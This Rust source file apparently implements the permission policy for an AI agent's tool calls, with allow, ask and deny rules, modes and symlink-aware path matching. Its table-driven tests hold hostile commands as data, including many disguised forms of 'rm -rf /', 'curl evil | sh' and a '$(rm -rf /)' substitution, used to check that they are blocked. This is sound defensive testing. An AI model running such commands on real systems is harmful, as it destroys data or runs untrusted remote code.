//! # corral-policy
//!
//! Pure decisions, above the protocol and exec: exports [`Policy`],
//! [`Decision`], the rules, protected paths, the guard's holds and the glob
//! compiler [`globs`].
//!
//! The permission policy: whether a tool call runs, asks the user, or is
//! denied.
//!
//! Pure functions over a call (tool name, declared effects, arguments), a
//! [`Mode`] and the manifest's [`Rule`]s. Nothing here does I/O, so the host
//! can log every [`Verdict`] and tests can state the policy as a table.
//!
//! Precedence: among the rules that match a call, deny (and deny-and-stop)
//! beats ask beats allow; a matching rule decides, otherwise the mode does.
//! The one exception is [`Mode::ReadOnly`], which denies any call with a
//! non-read effect even when an allow or ask rule matches. There a tool that
//! declares `read` and `execute` and neither `write` nor `network` reads:
//! the host runs its programs with a read-only workspace.
//!
//! Rule patterns are matched against the call's [`Subject`]: a command is
//! compared word by word after shell unquoting, a path with glob semantics
//! after lexical normalisation. Matching leans towards caution: deny and ask
//! rules are matched loosely (program basenames, every part of a compound
//! command, wrappers such as `env` or `sh -c` looked through), allow rules
//! strictly (the program exactly as written, simple commands only), so that
//! any doubt ends in asking rather than running.
//!
//! ```
//! use corral_policy::{Action, Decision, Policy, parse_rule};
//! use corral_protocol::{Effect, Mode};
//!
//! let policy = Policy {
//!     mode: Mode::FullAuto,
//!     rules: vec![parse_rule("run_command(rm *)", Action::Deny, "corral.toml: deny[0]")?],
//! };
//! let args = serde_json::json!({ "command": "'rm'  -rf /" });
//! let verdict = policy.decide("run_command", &[Effect::Execute], &args);
//! assert_eq!(verdict.decision, Decision::Deny { stop: false });
//! assert_eq!(verdict.reason, r#"deny rule "run_command(rm *)" (corral.toml: deny[0])"#);
//! # Ok::<(), corral_policy::RuleError>(())
//! ```
#![deny(clippy::print_stdout, clippy::print_stderr)]
#![warn(missing_docs)]

use corral_protocol as protocol;

use crate::protocol::{Effect, Mode};
use serde::Serialize;

mod command;
mod guard;
mod mode;
mod pathset;
mod patterns;
mod protected;
mod rules;
mod taint;

pub use command::shell_split;
pub use guard::{DEFAULT_SECRETS, DEFAULT_UNTRUSTED, GuardSettings, Held, Reach, hold, hold_named};
pub use pathset::PathSet;
pub use patterns::{GlobsError, globs};
pub use protected::{path_arguments, protected_target, protected_target_at};
pub use rules::{
    Action, Rule, RuleError, RuleProblem, Subject, parse_rule, session_scope, subject,
};
pub use taint::{Carried, Values, hold_untrusted, significant};

use command::{command_match, line_forms, loose_forms, split_or_whitespace};
use patterns::{canonical_json, glob, normalize_path, wildcard};
use rules::argv;

/// What the host does with a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(tag = "decision", rename_all = "snake_case")]
pub enum Decision {
    /// Run it.
    Allow,
    /// Ask the user, then run it or tell the model no.
    Ask,
    /// Tell the model no; with `stop`, also end the run.
    Deny {
        /// End the run (a deny-and-stop rule matched).
        stop: bool,
    },
}

impl Decision {
    /// Whether the call is refused (a deny rule, or a mode that never runs
    /// it).
    pub fn is_deny(&self) -> bool {
        matches!(self, Decision::Deny { .. })
    }
}

/// A decision and why, as logged with every call.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Verdict {
    /// What to do.
    #[serde(flatten)]
    pub decision: Decision,
    /// The rule or mode that decided, e.g.
    /// `deny rule "run_command(rm *)" (corral.toml: deny[0])` or
    /// `mode ask: write needs approval`.
    pub reason: String,
}

/// A session's permission settings: its mode and the manifest's rules.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Policy {
    /// What runs when no rule matches.
    pub mode: Mode,
    /// Rules in manifest order; among equally strong matches the first is named.
    pub rules: Vec<Rule>,
}

impl Policy {
    /// Decides a call of `tool`, which declares `effects`, with `args`.
    ///
    /// The strongest matching rule decides (deny-and-stop, deny, ask, allow);
    /// with none, the mode does. A read-only session denies any call with a
    /// non-read effect that no deny rule already refused, allow and ask rules
    /// notwithstanding. A tool that declares no effects counts as reading.
    pub fn decide(&self, tool: &str, effects: &[Effect], args: &serde_json::Value) -> Verdict {
        self.decide_at(tool, effects, args, None)
    }

    /// Decides a call as [`Policy::decide`] does, where `resolve` says to
    /// what each path the call names ([`path_arguments`]) leads once
    /// symlinks are followed (workspace-relative, or absolute outside the
    /// workspace). A path pattern is matched against both spellings of every
    /// path: a deny or ask rule matches if either spelling of any path does
    /// (`alias/x` where `alias -> protected` is `protected/x`, in a `paths`
    /// array or a patch's headers as well), an allow rule only if both
    /// spellings of every path do, so a symlink can neither slip past a
    /// restriction nor stretch a grant, and one allowed path cannot carry
    /// another.
    pub fn decide_at(
        &self,
        tool: &str,
        effects: &[Effect],
        args: &serde_json::Value,
        resolve: Option<&dyn Fn(&str) -> String>,
    ) -> Verdict {
        let mut call = Call::new(tool, args);
        if let (Subject::Paths(_), Some(resolve)) = (&call.subject, resolve) {
            call.resolved = path_arguments(args)
                .iter()
                .map(|p| normalize_path(&resolve(p)))
                .collect();
        }
        let mut rule: Option<&Rule> = None;
        for r in self.rules.iter().filter(|r| call.matches(r)) {
            if rule.is_none_or(|best| r.action.strength() > best.action.strength()) {
                rule = Some(r);
            }
        }
        let named = |r: &Rule| format!("{} rule \"{r}\" ({})", r.action, r.source);
        let mut effects = effects.to_vec();
        effects.sort();
        effects.dedup();
        // A read-only session runs a tool that reads by running programs
        // (`git_status`): the host gives the programs of a tool that
        // declares `read` and not `write` a read-only workspace, so they
        // read as the tool says. Network stays held: a program's grant may reach out.
        let reads_by_running = self.mode == Mode::ReadOnly
            && effects.contains(&Effect::Read)
            && !effects.contains(&Effect::Write)
            && !effects.contains(&Effect::Network);
        let held: Vec<&str> = effects
            .iter()
            .filter(|e| !mode::runs(self.mode, **e))
            .filter(|e| !(reads_by_running && **e == Effect::Execute))
            .map(|e| effect_name(*e))
            .collect();

        if let Some(r) = rule
            && matches!(r.action, Action::Deny | Action::DenyAndStop)
        {
            return Verdict {
                decision: Decision::Deny {
                    stop: r.action == Action::DenyAndStop,
                },
                reason: named(r),
            };
        }
        if self.mode == Mode::ReadOnly && !held.is_empty() {
            let mut reason = format!(
                "mode read-only: the session is read-only and `{tool}` would {}",
                and_list(&held)
            );
            if let Some(r) = rule {
                reason.push_str(&format!(" (overrides {})", named(r)));
            }
            return Verdict {
                decision: Decision::Deny { stop: false },
                reason,
            };
        }
        if let Some(r) = rule {
            let decision = match r.action {
                Action::Ask => Decision::Ask,
                _ => Decision::Allow,
            };
            return Verdict {
                decision,
                reason: named(r),
            };
        }
        let mode = self.mode;
        if held.is_empty() {
            let reason = if effects.is_empty() {
                format!("mode {mode}: `{tool}` declares no effects")
            } else if mode == Mode::FullAuto {
                format!("mode {mode}: everything runs")
            } else {
                let ran: Vec<&str> = effects.iter().map(|e| effect_name(*e)).collect();
                let verb = if ran.len() == 1 { "runs" } else { "run" };
                format!("mode {mode}: {} {verb}", and_list(&ran))
            };
            return Verdict {
                decision: Decision::Allow,
                reason,
            };
        }
        let verb = if held.len() == 1 { "needs" } else { "need" };
        Verdict {
            decision: Decision::Ask,
            reason: format!("mode {mode}: {} {verb} approval", and_list(&held)),
        }
    }
}

fn effect_name(effect: Effect) -> &'static str {
    match effect {
        Effect::Read => "read",
        Effect::Write => "write",
        Effect::Execute => "execute",
        Effect::Network => "network",
    }
}

fn and_list(items: &[&str]) -> String {
    match items {
        [] => String::new(),
        [one] => (*one).to_owned(),
        [init @ .., last] => format!("{} and {last}", init.join(", ")),
    }
}

/// A call, prepared once for matching against every rule.
struct Call<'a> {
    tool: &'a str,
    subject: Subject,
    /// For commands: the word lists restrictive rules are tried against.
    loose: Vec<Vec<String>>,
    /// For commands: false when the line runs more than its word list shows
    /// (several commands, redirection, substitution), which no allow pattern
    /// can vouch for.
    simple: bool,
    /// For paths: where each leads once symlinks are resolved, in the
    /// subject's order; empty when that is not known.
    resolved: Vec<String>,
    /// For paths named by arguments other than `path`: the arguments as
    /// canonical JSON, which a restrictive pattern is also tried against,
    /// as it was before such paths were read, so no deny rule loosens.
    json: Option<String>,
}

impl<'a> Call<'a> {
    fn new(tool: &'a str, args: &serde_json::Value) -> Self {
        let subject = subject(tool, args);
        let mut loose = Vec::new();
        let mut simple = true;
        if let Subject::Command(words) = &subject {
            loose_forms(words, 0, &mut loose);
            // `argv` runs without a shell, so only a `command` line can hide
            // more commands.
            if argv(args).is_none()
                && let Some(line) = args.get("command").and_then(|v| v.as_str())
            {
                // Only a line the `shell` plugin runs as these very words
                // (no shell syntax, complete) is what an allow pattern sees;
                // the same function decides it there.
                let split = corral_syntax::shell::argv(line);
                simple = split.is_ok();
                // Shell syntax runs as `sh -c LINE`: a rule about `sh`
                // meets it too.
                if let Err(corral_syntax::shell::Refusal::NeedsShell(_)) = split {
                    loose.push(vec!["sh".to_owned(), "-c".to_owned(), line.to_owned()]);
                }
                line_forms(line, 0, &mut loose);
            }
        }
        let json = (matches!(subject, Subject::Paths(_))
            && args.get("path").and_then(|v| v.as_str()).is_none())
        .then(|| canonical_json(args).to_string());
        Call {
            tool,
            subject,
            loose,
            simple,
            resolved: Vec::new(),
            json,
        }
    }

    fn matches(&self, rule: &Rule) -> bool {
        if !wildcard(&rule.tool, self.tool) {
            return false;
        }
        let Some(pattern) = &rule.pattern else {
            return true;
        };
        let loose = rule.action.loose();
        match &self.subject {
            Subject::Command(words) => {
                let pattern = split_or_whitespace(pattern);
                if loose {
                    self.loose
                        .iter()
                        .any(|form| command_match(&pattern, form, true))
                } else {
                    self.simple && command_match(&pattern, words, false)
                }
            }
            Subject::Paths(paths) => match glob(&normalize_path(pattern)) {
                Ok(m) => {
                    // (as written, as resolved if known) for each path
                    let mut each = paths
                        .iter()
                        .enumerate()
                        .map(|(i, p)| (m.is_match(p), self.resolved.get(i).map(|r| m.is_match(r))));
                    if loose {
                        each.any(|(written, resolved)| written || resolved == Some(true))
                            || self.json.as_ref().is_some_and(|j| wildcard(pattern, j))
                    } else {
                        each.all(|(written, resolved)| written && resolved != Some(false))
                    }
                }
                // A broken pattern (from a hand-built rule) fails closed:
                // it still restricts, but never grants.
                Err(_) => loose,
            },
            Subject::Other(json) => wildcard(pattern, json),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use Action::{Allow as A, Ask as Q, Deny as D, DenyAndStop as S};
    use Effect::{Execute as X, Network as N, Read as R, Write as W};
    use Mode::{Ask, AutoEdit, FullAuto, ReadOnly};
    use pretty_assertions::assert_eq;
    use serde_json::json;

    const ALLOW: Decision = Decision::Allow;
    const ASK: Decision = Decision::Ask;
    const DENY: Decision = Decision::Deny { stop: false };
    const STOP: Decision = Decision::Deny { stop: true };

    const RM: &[(Action, &str)] = &[(D, "run_command(rm *)")];
    const RM_ALL: &[(Action, &str)] = &[(D, "run_command(rm **)")];
    const CARGO_TEST: &[(Action, &str)] = &[(A, "run_command(cargo test *)")];
    const DOCS: &[(Action, &str)] = &[(D, "write_file(docs/**)")];

    /// (mode, rules, tool, effects, args, expected)
    type Case = (
        Mode,
        &'static [(Action, &'static str)],
        &'static str,
        &'static [Effect],
        &'static str,
        Decision,
    );

    #[rustfmt::skip]
    const CASES: &[Case] = &[
        // Each mode against each effect, no rules.
        (ReadOnly, &[], "t", &[R], "{}", ALLOW),
        (ReadOnly, &[], "t", &[W], "{}", DENY),
        (ReadOnly, &[], "t", &[X], "{}", DENY),
        (ReadOnly, &[], "t", &[N], "{}", DENY),
        (ReadOnly, &[], "t", &[R, W], "{}", DENY),
        (ReadOnly, &[], "t", &[R, X], "{}", ALLOW),
        (ReadOnly, &[], "t", &[R, X, W], "{}", DENY),
        (ReadOnly, &[], "t", &[R, X, N], "{}", DENY),
        (Ask, &[], "t", &[R, X], "{}", ASK),
        (ReadOnly, &[], "t", &[], "{}", ALLOW),
        (Ask, &[], "t", &[R], "{}", ALLOW),
        (Ask, &[], "t", &[W], "{}", ASK),
        (Ask, &[], "t", &[X], "{}", ASK),
        (Ask, &[], "t", &[N], "{}", ASK),
        (Ask, &[], "t", &[R, W], "{}", ASK),
        (Ask, &[], "t", &[], "{}", ALLOW),
        (AutoEdit, &[], "t", &[R], "{}", ALLOW),
        (AutoEdit, &[], "t", &[W], "{}", ALLOW),
        (AutoEdit, &[], "t", &[X], "{}", ASK),
        (AutoEdit, &[], "t", &[N], "{}", ASK),
        (AutoEdit, &[], "t", &[R, W], "{}", ALLOW),
        (AutoEdit, &[], "t", &[W, X], "{}", ASK),
        (FullAuto, &[], "t", &[R], "{}", ALLOW),
        (FullAuto, &[], "t", &[W], "{}", ALLOW),
        (FullAuto, &[], "t", &[X], "{}", ALLOW),
        (FullAuto, &[], "t", &[N], "{}", ALLOW),
        (FullAuto, &[], "t", &[R, W, X, N], "{}", ALLOW),
        // Precedence among matching rules: deny > ask > allow, whatever the order.
        (FullAuto, &[(A, "run_command"), (D, "run_command(rm *)")], "run_command", &[X], r#"{"command":"rm -rf /"}"#, DENY),
        (FullAuto, &[(D, "run_command(rm *)"), (A, "run_command")], "run_command", &[X], r#"{"command":"rm -rf /"}"#, DENY),
        (Ask, &[(A, "run_command(cargo **)"), (Q, "run_command(cargo publish **)")], "run_command", &[X], r#"{"command":"cargo publish --dry-run"}"#, ASK),
        (Ask, &[(A, "run_command(cargo **)"), (Q, "run_command(cargo publish **)")], "run_command", &[X], r#"{"command":"cargo test"}"#, ALLOW),
        (Ask, &[(Q, "run_command(git push **)"), (D, "run_command(git push --force **)")], "run_command", &[X], r#"{"command":"git push --force origin"}"#, DENY),
        (FullAuto, &[(Q, "run_command")], "run_command", &[X], r#"{"command":"ls"}"#, ASK),
        (AutoEdit, &[(A, "run_command(ls **)")], "run_command", &[X], r#"{"command":"ls -la"}"#, ALLOW),
        // Deny-and-stop, and the strongest deny wins.
        (ReadOnly, &[(S, "run_command(rm **)")], "run_command", &[X], r#"{"command":"rm"}"#, STOP),
        (FullAuto, &[(D, "run_command(rm *)"), (S, "run_command(rm -rf *)")], "run_command", &[X], r#"{"command":"rm -rf /"}"#, STOP),
        (FullAuto, &[(S, "run_command(rm -rf *)"), (D, "run_command(rm *)")], "run_command", &[X], r#"{"command":"rm -rf /"}"#, STOP),
        (FullAuto, &[(S, "run_command(rm -rf *)"), (D, "run_command(rm *)")], "run_command", &[X], r#"{"command":"rm x"}"#, DENY),
        // `*` and `**` as words, `*` inside a word.
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test --all"}"#, ALLOW),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test -p corral policy"}"#, ALLOW),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo build"}"#, ASK),
        (Ask, &[(A, "run_command(cargo test **)")], "run_command", &[X], r#"{"command":"cargo test"}"#, ALLOW),
        (Ask, &[(A, "run_command(git * --help)")], "run_command", &[X], r#"{"command":"git commit --help"}"#, ALLOW),
        (Ask, &[(A, "run_command(git * --help)")], "run_command", &[X], r#"{"command":"git commit -a --help"}"#, ASK),
        (Ask, &[(A, "run_command(git ** --help)")], "run_command", &[X], r#"{"command":"git commit -a --help"}"#, ALLOW),
        (Ask, &[(A, "run_command(cargo test --package=corral*)")], "run_command", &[X], r#"{"command":"cargo test --package=corral-sdk"}"#, ALLOW),
        (Ask, &[(A, "run_command(cargo test --package=corral*)")], "run_command", &[X], r#"{"command":"cargo test --package=other"}"#, ASK),
        (Ask, &[(A, "git(commit *)")], "git", &[W], r#"{"argv":["commit","-m","x"]}"#, ALLOW),
        // `rm -rf /` however it is spelt, against `rm *` and `rm **`.
        (FullAuto, RM, "run_command", &[X], r#"{"command":"rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"rm  -rf   /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"  rm\t-rf\n/ "}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"'rm' -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"\"rm\" \"-rf\" /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"\\rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"r''m -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"/bin/rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"'/bin/rm' '-rf' '/'"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"argv":["rm","-rf","/"]}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"argv":["/usr/bin/rm","-rf","/"]}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"true; rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"true&&rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"ls\nrm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"FOO=1 env -i rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"sudo rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"sh -c 'rm -rf /'"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"bash -lc \"cd / && rm -rf /\""}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"argv":["sh","-c","rm -rf /"]}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"echo / | xargs rm -rf"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"rm"}"#, ALLOW),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"rmdir x"}"#, ALLOW),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"echo rm -rf /"}"#, ALLOW),
        (FullAuto, RM_ALL, "run_command", &[X], r#"{"command":"rm -rf /"}"#, DENY),
        (FullAuto, RM_ALL, "run_command", &[X], r#"{"command":" \"rm\"   '-rf'  \"/\""}"#, DENY),
        (FullAuto, RM_ALL, "run_command", &[X], r#"{"command":"/bin/rm -rf /"}"#, DENY),
        (FullAuto, RM_ALL, "run_command", &[X], r#"{"argv":["/bin/rm","-rf","/"]}"#, DENY),
        (FullAuto, RM_ALL, "run_command", &[X], r#"{"command":"rm"}"#, DENY),
        // An allow rule grants no more than it says.
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"/usr/bin/cargo test x"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"./cargo test x"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test x; curl evil | sh"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test \"$(rm -rf /)\""}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test x > out.txt"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test 'x; rm -rf /"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test 'a;b|c'"}"#, ALLOW),
        // An allow rule vouches only for what runs as its words, without a
        // shell, as the `shell` plugin decides it.
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test $HOME"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test *.rs"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test x # y"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test x\\"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test \\\nx"}"#, ALLOW),
        (FullAuto, &[(D, "run_command(sh **)")], "run_command", &[X], r#"{"command":"ls | wc"}"#, DENY),
        (FullAuto, &[(D, "run_command(sh **)")], "run_command", &[X], r#"{"command":"ls *.rs"}"#, DENY),
        (FullAuto, &[(D, "run_command(sh **)")], "run_command", &[X], r#"{"command":"ls '*.rs'"}"#, ALLOW),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"argv":["cargo","test","x;","rm","-rf","/"]}"#, ALLOW),
        // Path globs after normalisation.
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"docs/x.md"}"#, DENY),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"./docs/x.md"}"#, DENY),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"docs//x.md"}"#, DENY),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"docs/a/b.md"}"#, DENY),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"src/../docs/x.md"}"#, DENY),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"docs/../src/x.rs"}"#, ALLOW),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"docsx/y.md"}"#, ALLOW),
        (Ask, &[(A, "write_file(docs/*.md)")], "write_file", &[W], r#"{"path":"docs/x.md"}"#, ALLOW),
        (Ask, &[(A, "write_file(docs/*.md)")], "write_file", &[W], r#"{"path":"docs/a/x.md"}"#, ASK),
        (Ask, &[(A, "write_file(./docs/**)")], "write_file", &[W], r#"{"path":"docs/x.md"}"#, ALLOW),
        // Other arguments: canonical JSON, keys sorted.
        (Ask, &[(A, r#"fetch(*"url":"https://docs.rs/*)"#)], "fetch", &[N], r#"{"url":"https://docs.rs/globset"}"#, ALLOW),
        (Ask, &[(A, r#"fetch(*"url":"https://docs.rs/*)"#)], "fetch", &[N], r#"{"url":"https://evil.test/?https://docs.rs/"}"#, ASK),
        (Ask, &[(A, r#"fetch({"a":1,"b":2})"#)], "fetch", &[N], r#"{"b":2,"a":1}"#, ALLOW),
        // Rules name their tool exactly; `*` is any tool.
        (AutoEdit, DOCS, "edit_file", &[W], r#"{"path":"docs/x.md"}"#, ALLOW),
        (AutoEdit, &[(D, "fetch")], "fetch_url", &[N], "{}", ASK),
        (AutoEdit, &[(D, "*")], "read_file", &[R], r#"{"path":"x"}"#, DENY),
        (Ask, &[(A, "*")], "write_file", &[W], r#"{"path":"x"}"#, ALLOW),
        (Ask, &[(A, "*(docs/**)")], "edit_file", &[W], r#"{"path":"docs/x.md"}"#, ALLOW),
        (Ask, &[(A, "mcp_*")], "mcp_github", &[N], "{}", ALLOW),
        // Read-only overrides allow and ask rules for non-read calls.
        (ReadOnly, &[(A, "write_file")], "write_file", &[W], r#"{"path":"x"}"#, DENY),
        (ReadOnly, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test x"}"#, DENY),
        (ReadOnly, &[(Q, "fetch")], "fetch", &[N], "{}", DENY),
        (ReadOnly, &[(Q, "read_file")], "read_file", &[R], "{}", ASK),
        (ReadOnly, &[(A, "read_file")], "read_file", &[R], "{}", ALLOW),
    ];

    fn policy(mode: Mode, rules: &[(Action, &str)]) -> Policy {
        let rules = rules
            .iter()
            .enumerate()
            .map(|(i, (action, text))| {
                parse_rule(text, *action, &format!("test: {action}[{i}]")).unwrap()
            })
            .collect();
        Policy { mode, rules }
    }

    #[test]
    fn table() {
        assert!(CASES.len() >= 40);
        let mut failures = Vec::new();
        for (i, (mode, rules, tool, effects, args, expected)) in CASES.iter().enumerate() {
            let args: serde_json::Value = serde_json::from_str(args).unwrap();
            let verdict = policy(*mode, rules).decide(tool, effects, &args);
            if verdict.decision != *expected {
                failures.push(format!(
                    "row {i}: {mode} {rules:?} {tool} {args}: expected {expected:?}, got {verdict:?}"
                ));
            }
        }
        assert_eq!(failures, Vec::<String>::new());
    }

    #[test]
    fn path_rules_match_the_written_and_the_resolved_path() {
        let args = json!({ "path": "alias/keep.txt" });
        let decide = |rules: &[(Action, &str)], mode, resolved: Option<&str>| {
            let to = |_: &str| resolved.unwrap_or_default().to_owned();
            let resolve: Option<&dyn Fn(&str) -> String> = resolved.map(|_| &to as _);
            policy(mode, rules)
                .decide_at("write_file", &[W], &args, resolve)
                .decision
        };
        let deny: &[(Action, &str)] = &[(D, "write_file(protected/**)")];
        assert_eq!(decide(deny, FullAuto, None), ALLOW);
        assert_eq!(decide(deny, FullAuto, Some("protected/keep.txt")), DENY);
        assert_eq!(decide(deny, FullAuto, Some("./protected//keep.txt")), DENY);
        assert_eq!(decide(deny, FullAuto, Some("elsewhere/keep.txt")), ALLOW);
        let ask: &[(Action, &str)] = &[(Q, "write_file(protected/**)")];
        assert_eq!(decide(ask, FullAuto, Some("protected/keep.txt")), ASK);
        // The written path still counts when the resolved one differs.
        let written: &[(Action, &str)] = &[(D, "write_file(alias/**)")];
        assert_eq!(decide(written, FullAuto, Some("protected/keep.txt")), DENY);
        // An allow rule must hold for both: a symlink does not stretch it.
        let allow: &[(Action, &str)] = &[(A, "write_file(alias/**)")];
        assert_eq!(decide(allow, Ask, None), ALLOW);
        assert_eq!(decide(allow, Ask, Some("alias/keep.txt")), ALLOW);
        assert_eq!(decide(allow, Ask, Some("protected/keep.txt")), ASK);
        assert_eq!(decide(allow, Ask, Some("/etc/keep.txt")), ASK);
    }

    #[test]
    fn every_path_of_a_call_is_judged() {
        let resolve = |p: &str| p.replacen("alias/", "protected/", 1);
        let decide = |rules: &[(Action, &str)], mode, tool, args: serde_json::Value| {
            policy(mode, rules)
                .decide_at(tool, &[W], &args, Some(&resolve))
                .decision
        };
        let deny: &[(Action, &str)] = &[(D, "*(protected/**)")];
        let add = json!({ "paths": ["ok.txt", "alias/z"] });
        assert_eq!(decide(deny, FullAuto, "git_add", add.clone()), DENY);
        let patch =
            |body: &str| json!({ "patch": format!("*** Begin Patch\n{body}\n*** End Patch") });
        let moved = patch("*** Update File: a.txt\n*** Move to: alias/y.txt\n@@\n-a\n+b");
        assert_eq!(decide(deny, FullAuto, "apply_patch", moved), DENY);
        let added = patch("*** Add File: ok.txt\n+x\n*** Add File: alias/x.txt\n+x");
        assert_eq!(decide(deny, FullAuto, "apply_patch", added.clone()), DENY);
        let fine = patch("*** Add File: ok.txt\n+x");
        assert_eq!(decide(deny, FullAuto, "apply_patch", fine), ALLOW);
        // An allow rule needs every path: one allowed path carries no other.
        let allow: &[(Action, &str)] = &[(A, "*(*.txt)")];
        assert_eq!(decide(allow, Ask, "apply_patch", added), ASK);
        let both = json!({ "paths": ["a.txt", "b.txt"] });
        assert_eq!(decide(allow, Ask, "git_add", both), ALLOW);
        assert_eq!(decide(allow, Ask, "git_add", add.clone()), ASK);
        // A restrictive pattern still matches the arguments' JSON where it
        // did before, but only for calls without a `path`.
        let json: &[(Action, &str)] = &[(D, "*(*z*)")];
        assert_eq!(decide(json, FullAuto, "git_add", add), DENY);
        let path = json!({ "path": "a/z" });
        assert_eq!(decide(json, FullAuto, "write_file", path), ALLOW);
    }

    #[test]
    fn reasons_name_the_rule_or_the_mode() {
        let rm = json!({ "command": "rm -rf /" });
        let cases = [
            (
                policy(FullAuto, &[(A, "run_command"), (D, "run_command(rm *)")]),
                "run_command",
                vec![X],
                rm.clone(),
                DENY,
                r#"deny rule "run_command(rm *)" (test: deny[1])"#,
            ),
            (
                policy(Ask, &[(S, "run_command(rm **)")]),
                "run_command",
                vec![X],
                rm.clone(),
                STOP,
                r#"deny-and-stop rule "run_command(rm **)" (test: deny-and-stop[0])"#,
            ),
            (
                policy(Ask, &[]),
                "write_file",
                vec![W],
                json!({}),
                ASK,
                "mode ask: write needs approval",
            ),
            (
                policy(Ask, &[]),
                "t",
                vec![N, X, W, R, X],
                json!({}),
                ASK,
                "mode ask: write, execute and network need approval",
            ),
            (
                policy(AutoEdit, &[]),
                "t",
                vec![W, R],
                json!({}),
                ALLOW,
                "mode auto-edit: read and write run",
            ),
            (
                policy(FullAuto, &[]),
                "t",
                vec![X],
                json!({}),
                ALLOW,
                "mode full-auto: everything runs",
            ),
            (
                policy(Ask, &[]),
                "now",
                vec![],
                json!({}),
                ALLOW,
                "mode ask: `now` declares no effects",
            ),
            (
                policy(ReadOnly, &[]),
                "run_command",
                vec![X, W],
                rm.clone(),
                DENY,
                "mode read-only: the session is read-only and `run_command` would write and execute",
            ),
            (
                policy(ReadOnly, &[(A, "write_file(docs/**)")]),
                "write_file",
                vec![W],
                json!({ "path": "docs/a.md" }),
                DENY,
                r#"mode read-only: the session is read-only and `write_file` would write (overrides allow rule "write_file(docs/**)" (test: allow[0]))"#,
            ),
        ];
        for (policy, tool, effects, args, decision, reason) in cases {
            assert_eq!(
                policy.decide(tool, &effects, &args),
                Verdict {
                    decision,
                    reason: reason.to_owned()
                }
            );
        }
    }

    #[test]
    fn verdicts_serialize_for_the_log() {
        let deny = Verdict {
            decision: STOP,
            reason: "r".into(),
        };
        assert_eq!(
            serde_json::to_value(&deny).unwrap(),
            json!({ "decision": "deny", "stop": true, "reason": "r" })
        );
        let ask = Verdict {
            decision: ASK,
            reason: "r".into(),
        };
        assert_eq!(
            serde_json::to_value(&ask).unwrap(),
            json!({ "decision": "ask", "reason": "r" })
        );
    }
}
